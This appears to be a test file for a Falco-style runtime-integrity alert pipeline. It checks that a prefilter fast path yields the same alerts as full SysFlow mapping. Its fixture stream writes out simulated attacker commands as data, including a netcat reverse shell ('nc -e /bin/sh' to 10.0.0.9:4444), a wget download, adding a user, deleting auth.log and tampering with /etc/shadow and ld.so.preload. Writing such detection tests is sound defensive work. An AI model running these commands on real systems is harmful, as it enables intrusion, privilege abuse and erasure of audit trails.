// Live policies' fast path (stages/sysflow.ts FlattenerStage.onlyFeedsAlerts): a file record
// that no alert rule can match is not mapped to SysFlow. The alerts must be exactly those of the
// full mapping: the same recorded stream (file, process and socket records; repeated, renamed,
// deleted and symlinked files; processes that fork, exec, setuid and exit) is replayed with
// `--rules runtimeintegrity` with the fast path and with FALCONET_LIVE_PREFILTER=off, and the
// output (records and alerts, Falco and SysFlow JSON) must be byte-identical, alert ids included.
// Pids above pid_max, so no /proc entry of this machine leaks into the mapping.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Writable } from 'node:stream';
import { runPipeline } from '../../src/pipeline/agent.js';
import { replaySource } from '../../src/sensor/source.js';
import { FF } from '../../src/sensor/layout.js';
import { FlattenerStage } from '../../src/pipeline/stages/sysflow.js';
import { PolicyStage } from '../../src/pipeline/stages/policy.js';
import { KernelToSysFlow } from '../../src/pipeline/stages/kernel-sysflow.js';
import { decodeRecords } from '../../src/sensor/decode.js';
import { loadPolicies } from '../../src/policy/index.js';
import { toSysFlowJson } from '../../src/policy/alerts.js';
import { recordIdString, type Envelope } from '../../src/pipeline/types.js';
import type { SysFlowRecord } from '../../src/pipeline/encoders/sysflow.js';
import type { Node } from '../../src/pipeline/runtime.js';
import type { KernelRecord } from '../../src/model/records.js';
import { end, fileRecord, hello, procRecord, records, sockRecord } from '../unit/stream-builder.js';

const RULES = path.join(process.env.FALCONET_SHARED ?? '/work/shared', 'data/sysflow/policies/runtimeintegrity');
// no NetworkFlow rule: socket records need no SysFlow at all
const FILE_ONLY = `
- rule: Etc written
  desc: a file below /etc was written
  condition: sf.file.path startswith /etc/ and sf.opflags contains WRITE_SEND
  priority: high
  prefilter: [FF]
- rule: Downloader
  desc: wget ran
  condition: sf.opflags = EXEC and sf.proc.name = wget
  priority: high
  prefilter: [PE]
`;
function fileOnlyPolicy(): string {
  const f = path.join(mkdtempSync(path.join(tmpdir(), 'fn-prefilter-pol-')), 'file-only.yaml');
  writeFileSync(f, FILE_ONLY);
  return f;
}
const PID = 5_000_000;
const W = [0, 1, 0, 0, 0, 3, 1, 0, 0, 0, 0]; // open, 3 writes, close
const R = [0, 1, 0, 2, 0, 0, 0, 1, 0, 0, 0]; // open, 2 reads, close

/** Many record kinds, in frames of 40; `n` unrelated files among them. */
function recordsOfManyKinds(n: number): Buffer[] {
  const t = (i: number) => 3_000_000_000n + BigInt(i) * 1000n;
  const recs: Buffer[] = [];
  let i = 0;
  const file = (pid: number, exe: string, p: string, events = W, extra: Parameters<typeof fileRecord>[0] = {}) =>
    recs.push(fileRecord({ pid, exe, path: p, events, ts: t(i++), ino: 100 + i, ...extra }));
  recs.push(procRecord({ pid: PID + 1, exe: 'bash', event: 'FORK', args: [BigInt(PID + 2), BigInt(PID + 2), 0n, 2_900_000_000n], ts: t(i++) }));
  recs.push(procRecord({ pid: PID + 2, exe: 'wget', event: 'EXEC', strs: ['/usr/bin/wget', '/usr/bin/wget', '', 'wget\0http://example.invalid/x'], ts: t(i++) }));
  recs.push(procRecord({ pid: PID + 3, exe: 'useradd', event: 'EXEC', strs: ['/usr/sbin/useradd', '/usr/sbin/useradd', '', 'useradd\0mallory'], ts: t(i++) }));
  recs.push(procRecord({ pid: PID + 4, exe: 'nc', event: 'EXEC', strs: ['/usr/bin/nc', '/usr/bin/nc', '', 'nc\0-e\0/bin/sh\x0010.0.0.9\x004444'], ts: t(i++) }));
  recs.push(procRecord({ pid: PID + 5, uid: 1000, exe: 'evil', event: 'SETUID', idNew: [0, 0, 0], ts: t(i++) }));
  recs.push(procRecord({ pid: PID + 6, exe: 'mv', event: 'RENAME', strs: ['/tmp/cron.new', '/etc/crontab'], ts: t(i++) }));
  recs.push(procRecord({ pid: PID + 6, exe: 'mv', event: 'UNLINK', strs: ['/var/log/auth.log'], ts: t(i++) }));
  recs.push(procRecord({ pid: PID + 6, exe: 'mv', event: 'MKDIR', strs: ['/dev/shm/.hidden'], ts: t(i++) }));
  recs.push(sockRecord({ pid: PID + 7, exe: 'bash', laddr: [10, 0, 0, 1], raddr: [10, 0, 0, 2], lport: 40000, rport: 4444, ts: t(i++) }));
  recs.push(sockRecord({ pid: PID + 8, exe: 'sshd', laddr: [10, 0, 0, 1], raddr: [10, 0, 0, 3], lport: 22, rport: 50000, role: 1, ts: t(i++) }));
  file(PID + 10, 'vi', '/etc/shadow');
  file(PID + 11, 'cat', '/etc/shadow', R);
  file(PID + 12, 'nginx', '/var/www/html/index.php');
  file(PID + 12, 'nginx', '/var/log/nginx/access.log');
  file(PID + 12, 'nginx', '/srv/site/upload.php'); // a later record of a process a rule needing no path may match
  for (const p of ['/root/.bashrc', '/root/.bash_history', '/etc/ld.so.preload', '/etc/cron.d/job', '/usr/bin/evil', '/dev/evil', '/var/lib/dpkg/status', '/etc/init.d/svc', '/etc/profile', '/etc/passwd', '/newfile']) file(PID + 13, 'bash', p);
  file(PID + 13, 'bash', '/etc/crontab', [0, 0, 0, 0, 0, 0, 0, 0, 1, 1, 0], { flags: FF.MOVED, origin: 'crontab.tmp' });
  file(PID + 13, 'bash', '/etc/group', [0, 1, 0, 0, 0, 0, 0, 1, 0, 0, 1]); // deleted
  file(PID + 13, 'bash', '/etc/hosts', W, { flags: FF.SHUTDOWN });
  for (let k = 0; k < n; k++) {
    const p = `/var/lib/app/data/f-${k % (n >> 1)}.dat`; // every file twice
    file(PID + 20 + (k % 9), k % 3 ? 'bash' : 'python3', p, k % 2 ? W : R, k % 17 === 0 ? { mode: 0o120777 } : {});
    if (k % 50 === 0) recs.push(procRecord({ pid: PID + 20 + (k % 9), exe: 'bash', event: 'EXIT', ts: t(i++) }));
    if (k % 70 === 0) recs.push(procRecord({ pid: PID + 20 + (k % 9), exe: 'bash', event: 'EXEC', strs: ['/usr/bin/curl', '/usr/bin/curl', '', 'curl\0x'], ts: t(i++) }));
  }
  file(PID + 13, 'bash', '/etc/shadow'); // a file seen before, now written by another process
  // a database's files: its process rules out every rule that needs no path (the prefilter
  // drops these on process, opflags and path alone), but not those on sensitive paths
  for (let k = 0; k < n >> 1; k++) file(PID + 40 + (k % 3), 'postgres', `/var/lib/postgresql/base/${k % 100}`, k % 2 ? W : R);
  file(PID + 40, 'postgres', '/etc/passwd', R);
  file(PID + 41, 'postgres', '/etc/shadow', R);
  file(PID + 42, 'postgres', '/usr/bin/pg-evil'); // written below a binary dir: alerts
  return recs;
}

function stream(n: number): string {
  const recs = recordsOfManyKinds(n);
  const frames = [hello()];
  for (let k = 0; k < recs.length; k += 40) frames.push(records(recs.slice(k, k + 40)));
  frames.push(end());
  const file = path.join(mkdtempSync(path.join(tmpdir(), 'fn-prefilter-')), 's.bin');
  writeFileSync(file, Buffer.concat(frames));
  return file;
}

function flattenerOf(nodes: readonly Node[]): FlattenerStage | undefined {
  for (const n of nodes) {
    if (n.kind !== 'stage') continue;
    if (n.stage instanceof FlattenerStage) return n.stage;
    const f = flattenerOf(n.next);
    if (f) return f;
  }
  return undefined;
}

async function replay(file: string, alertFormat: string, fast: boolean, rules = RULES): Promise<{ out: string; unmapped: number; gatedOut: number }> {
  let out = '';
  const w = new Writable({ write(c: Buffer, _e, cb) { out += c.toString(); cb(); } });
  const saved = process.env['FALCONET_LIVE_PREFILTER'];
  if (fast) delete process.env['FALCONET_LIVE_PREFILTER'];
  else process.env['FALCONET_LIVE_PREFILTER'] = 'off';
  try {
    const s = await runPipeline(replaySource(file), { output: 'json-min', hostFromStream: true, rules, alertFormat, log: () => {} }, w);
    const f = flattenerOf(s.tree.roots);
    return { out, unmapped: f?.unmapped ?? -1, gatedOut: f?.gatedOut ?? -1 };
  } finally {
    if (saved === undefined) delete process.env['FALCONET_LIVE_PREFILTER'];
    else process.env['FALCONET_LIVE_PREFILTER'] = saved;
  }
}

test('replay --rules: the fast path gives exactly the alerts of the full mapping (Falco and SysFlow JSON)', async () => {
  const file = stream(600);
  for (const format of ['falco', 'sysflow-json']) {
    const fast = await replay(file, format, true);
    const full = await replay(file, format, false);
    assert.equal(full.unmapped, 0, 'FALCONET_LIVE_PREFILTER=off maps every record');
    assert.ok(fast.unmapped >= 500, `most unrelated file records are not mapped (${fast.unmapped})`);
    // most of them without a preview: their process rules out every rule that needs no path
    assert.equal(full.gatedOut, 0);
    assert.ok(fast.gatedOut >= 300, `dropped on process and path alone (${fast.gatedOut})`);
    const lines = full.out.trim().split('\n');
    const alerts = lines.filter((l) => (format === 'falco' ? /"rule":/ : /"policies":/).test(l));
    assert.ok(alerts.length >= 10, `${format}: the stream raises many alerts (${alerts.length})`);
    assert.ok(lines.length > 600, 'the kernel records are there too');
    if (format === 'falco') {
      const rules = new Set(alerts.map((l) => (JSON.parse(l) as { rule: string }).rule));
      for (const r of ['Password file modified', 'Untrusted read sensitive file', 'Downloader detected', 'Write below binary dir', 'Library preload file modified']) assert.ok(rules.has(r), `${r} fires`);
    }
    assert.equal(fast.out, full.out, `${format}: identical output`);
  }
});

test('replay --rules with no NetworkFlow rule: socket records are not mapped, alerts unchanged', async () => {
  const rules = fileOnlyPolicy();
  const file = stream(200);
  const fast = await replay(file, 'sysflow-json', true, rules);
  const full = await replay(file, 'sysflow-json', false, rules);
  const alerts = full.out.split('\n').filter((l) => /"policies":/.test(l));
  // writes below /etc/: vi's /etc/shadow; bash's ld.so.preload, cron.d/job, init.d/svc, profile,
  // passwd, hosts (at shutdown) and /etc/shadow again; and wget's exec
  assert.equal(alerts.length, 9, alerts.join('\n'));
  assert.equal(fast.out, full.out);
  // a stream of three socket records: all unmapped without NF rules, none with runtimeintegrity's
  const socks = path.join(mkdtempSync(path.join(tmpdir(), 'fn-prefilter-')), 's.bin');
  writeFileSync(socks, Buffer.concat([hello(), records([0, 1, 2].map((k) => sockRecord({ pid: PID + 30 + k, exe: 'curl', laddr: [10, 0, 0, 1], raddr: [10, 0, 0, 2 + k], lport: 40000 + k, rport: 443, ts: 3_000_000_000n + BigInt(k) }))), end()]));
  assert.equal((await replay(socks, 'falco', true, rules)).unmapped, 3);
  assert.equal((await replay(socks, 'falco', true)).unmapped, 0);
});

test('flattener + alert engine: the alerts of both paths carry the same records and ids', () => {
  const recs = decodeRecords(Buffer.concat(recordsOfManyKinds(300)));
  for (const policy of [loadPolicies([RULES], { lenient: true }), loadPolicies([fileOnlyPolicy()])]) {
  const run = (fast: boolean): string[] => {
    const mapping = { mapper: new KernelToSysFlow(0n, { user: () => 'root', group: () => 'root' }) };
    const flat = new FlattenerStage('flattener', mapping);
    const engine = new PolicyStage('policyengine', policy, 'alert');
    if (fast) flat.onlyFeedsAlerts([engine.engine]);
    const kinds: Record<string, Envelope['kind']> = { file: 'file', proc: 'process', sock: 'socket' };
    const out: string[] = [];
    for (let k = 0; k < recs.length; k += 32) {
      const batch: Envelope[] = recs.slice(k, k + 32).map((r: KernelRecord, j) => ({ kind: kinds[r.type]!, rec: r, id: { host: 'h', boot: 'b', seq: BigInt(k + j + 1) }, enrich: {} }));
      for (const e of engine.process(flat.process(batch))) out.push(`${recordIdString(e.id!)} ${toSysFlowJson(e.rec as SysFlowRecord)}`);
    }
    assert.equal(flat.unmapped > 0, fast);
    return out;
  };
  const full = run(false);
  assert.ok(full.length >= 5, `alerts raised (${full.length})`);
  assert.deepEqual(run(true), full);
  }
});
